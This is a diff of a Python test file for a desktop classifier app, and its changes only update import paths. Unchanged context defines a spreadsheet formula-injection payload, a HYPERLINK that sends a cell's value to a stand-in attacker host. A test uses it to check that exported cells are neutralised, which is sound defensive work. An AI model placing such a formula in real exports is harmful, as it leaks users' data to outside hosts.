@@ -10,10 +10,10 @@ import pytest
 from hostile import edit_json, one_line_error
 
 from desktop_app.cli import main
-from desktop_app.core.adapters import export_adapter_zip
-from desktop_app.core.errors import AdapterError
-from desktop_app.core.inference import Classifier
-from desktop_app.core.manifest import Manifest
+from desktop_app.core.artifacts.adapters import export_adapter_zip
+from desktop_app.core.base.errors import AdapterError
+from desktop_app.core.predict.inference import Classifier
+from desktop_app.core.artifacts.manifest import Manifest
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'
 
@@ -49,7 +49,7 @@ def test_manifest_labels_must_be_printable_text(adapter_copy, labels, capsys):
 
 def test_a_formula_label_loads_but_is_never_written_as_a_formula(trained_adapter, tmp_path):
     """A label may look like a formula ("+ve" is a real label); only output cells are neutralised."""
-    from desktop_app.core.predict_file import predict_file
+    from desktop_app.core.predict.predict_file import predict_file
 
     clf = Classifier.load(trained_adapter.adapter_dir)
     clf.labels = ("+ve", FORMULA)
@@ -92,7 +92,7 @@ def test_html_in_a_shared_adapter_stays_text_in_the_window(qtbot, trained_adapte
 ])
 def test_peft_config_is_checked_before_any_tensor_is_built(adapter_copy, monkeypatch, change, words):
     monkeypatch.setattr("peft.PeftModel.from_pretrained", lambda *a, **k: pytest.fail("peft built the model"))
-    monkeypatch.setattr("desktop_app.core.models.load_classifier", lambda *a, **k: pytest.fail("base model loaded"))
+    monkeypatch.setattr("desktop_app.core.model.models.load_classifier", lambda *a, **k: pytest.fail("base model loaded"))
     edit_json(adapter_copy / "adapter_config.json", **change)
     with pytest.raises(AdapterError, match=words):
         Classifier.load(adapter_copy)
